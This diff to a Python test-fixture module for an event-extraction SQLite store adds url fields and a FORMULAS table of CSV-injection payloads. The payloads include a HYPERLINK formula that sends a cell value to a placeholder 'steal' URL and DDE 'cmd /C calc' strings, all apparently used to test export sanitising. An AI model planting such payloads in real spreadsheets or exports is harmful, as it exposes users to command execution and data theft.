@@ -13,7 +13,7 @@ import threading
 import time
 from collections.abc import Iterator
 from contextlib import contextmanager
-from dataclasses import dataclass
+from dataclasses import dataclass, replace
 from datetime import date, timedelta
 from pathlib import Path
 
@@ -67,7 +67,7 @@ def _actor(index: int, start: int) -> Actor:
 
 
 def extraction(doc_id: str, planned: list[Planned], *, title: str | None = None,
-               relevance: float | None = None) -> Extraction:
+               relevance: float | None = None, url: str | None = None) -> Extraction:
     """A document whose sentences state the planned events, with every record's offsets."""
     text = ""
     events, entities, timexes, places = [], [], [], []
@@ -102,19 +102,46 @@ def extraction(doc_id: str, planned: list[Planned], *, title: str | None = None,
             confidence=0.9, goldstein=score, quad=2 if score > 0 else 4,
         ))
     return Extraction(id=doc_id, date=planned[0].day.isoformat() if planned else None, title=title or doc_id,
-                      source="Test Wire", url=None, text=text, entities=entities, timexes=timexes, places=places,
+                      source="Test Wire", url=url, text=text, entities=entities, timexes=timexes, places=places,
                       events=events, relevance=relevance, origin=f"{doc_id}.txt")
 
 
-def fill_store(path: Path, plan: dict[str, list[Planned]], *, relevance: dict[str, float] | None = None) -> Path:
+def fill_store(path: Path, plan: dict[str, list[Planned]], *, relevance: dict[str, float] | None = None,
+               urls: dict[str, str] | None = None) -> Path:
     """Write each document of ``plan`` (id -> its events) into a SQLite store at ``path``.
 
-    ``relevance`` gives documents their relevance (id -> score); the others have none.
+    ``relevance`` gives documents their relevance (id -> score), ``urls`` their url, written
+    straight into the store as an older store may hold it (ingest keeps only http(s) URLs);
+    the others have none.
     """
     with SQLiteStore(path) as store:
         for doc_id, planned in plan.items():
-            store.add(extraction(doc_id, planned, title=f"Report {doc_id}", relevance=(relevance or {}).get(doc_id)))
+            store.add(extraction(doc_id, planned, title=f"Report {doc_id}", relevance=(relevance or {}).get(doc_id),
+                                 url=(urls or {}).get(doc_id)))
     return path
+
+
+#: Cells a spreadsheet would run as formulas (OWASP's CSV injection examples), by where they go in an event.
+FORMULAS = {
+    "title": '=HYPERLINK("http://127.0.0.1:9/steal?"&A1,"Click")',
+    "source": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "sentence": "-2+3+cmd|' /C calc'!A0",
+    "trigger": "+attacked",
+    "actor": "=1+1",
+    "place": "\tGeneva",
+    "mode": "\r=1+1",
+}
+
+
+def formula_extraction(doc_id: str, planned: list[Planned]) -> Extraction:
+    """``extraction`` with ``FORMULAS`` for its title, source, sentences, triggers, source actors, places and modes."""
+    base = extraction(doc_id, planned)
+    events = [replace(e, mode=FORMULAS["mode"], sentence=replace(e.sentence, text=FORMULAS["sentence"]),
+                      trigger=replace(e.trigger, text=FORMULAS["trigger"]),
+                      source=replace(e.source, text=FORMULAS["actor"], code=None) if e.source else None,
+                      location=replace(e.location, name=FORMULAS["place"]) if e.location else None)
+              for e in base.events]
+    return replace(base, title=FORMULAS["title"], source=FORMULAS["source"], events=events)
 
 
 def random_plan(documents: int, per_document: int, *, seed: int = 7, start: date = date(2023, 10, 1),
